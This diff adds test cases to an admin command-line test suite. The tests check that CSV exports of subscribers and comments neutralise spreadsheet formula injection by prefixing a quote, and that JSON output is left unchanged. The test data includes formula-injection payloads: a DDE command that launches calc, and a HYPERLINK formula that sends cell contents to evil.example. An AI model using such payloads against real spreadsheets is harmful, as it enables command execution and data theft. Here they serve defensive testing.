@@ -127,6 +127,17 @@ describe.each(backends)("the admin command line on %s", (backend) => {
       expect(after.has("O'Brien@Example.org")).toBe(true);
     });
 
+    it("quotes an address that a spreadsheet would take for a formula", async () => {
+      for (const email of ["+news@example.com", "-dash@example.com"]) {
+        expect((await t.visitor().post("/api/subscribers", { email })).statusCode).toBe(201);
+      }
+      const rows = parseExport((await admin(env, "subscribers", "export")).stdout);
+      expect([...rows.keys()]).toEqual(
+        expect.arrayContaining(["'+news@example.com", "'-dash@example.com"]),
+      );
+      expect([...rows.keys()].filter((email) => /^[=+\-@\t\r]/.test(email))).toEqual([]);
+    });
+
     it("writes the export to a file only its owner can read", async () => {
       await t.visitor().post("/api/subscribers", { email: "filed@example.com" });
       const file = path.join(scratch(), "subscribers.csv");
@@ -183,6 +194,32 @@ describe.each(backends)("the admin command line on %s", (backend) => {
       const today = new Date().toISOString().slice(0, 10);
       const recent = await admin(env, "comments", "list", "--since", today, "--post", other);
       expect(recent.stdout).toContain("elsewhere");
+    });
+
+    it("quotes names and comments that a spreadsheet would run as formulas, except in JSON", async () => {
+      const post = freshItem("science");
+      const formulas = [
+        ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'],
+        ["+Alex", "-2+3"],
+        ["@Sam", "@SUM(1+1)"],
+      ];
+      for (const [name, content] of formulas) {
+        expect((await t.visitor().comment(post, content!, name)).statusCode).toBe(201);
+      }
+      const run = await admin(env, "comments", "list", "--post", post);
+      const rows = run.stdout
+        .trimEnd()
+        .split("\n")
+        .slice(1)
+        .map((line) => line.split("\t").slice(3));
+      expect(rows).toEqual(formulas.map((cells) => cells.map((cell) => `'${cell}`)));
+
+      const asJson = JSON.parse(
+        (await admin(env, "comments", "list", "--post", post, "--json")).stdout,
+      );
+      expect(
+        asJson.map((c: { userName: string; content: string }) => [c.userName, c.content]),
+      ).toEqual(formulas);
     });
 
     it("deletes any comment by id, and open pages see it go", async () => {
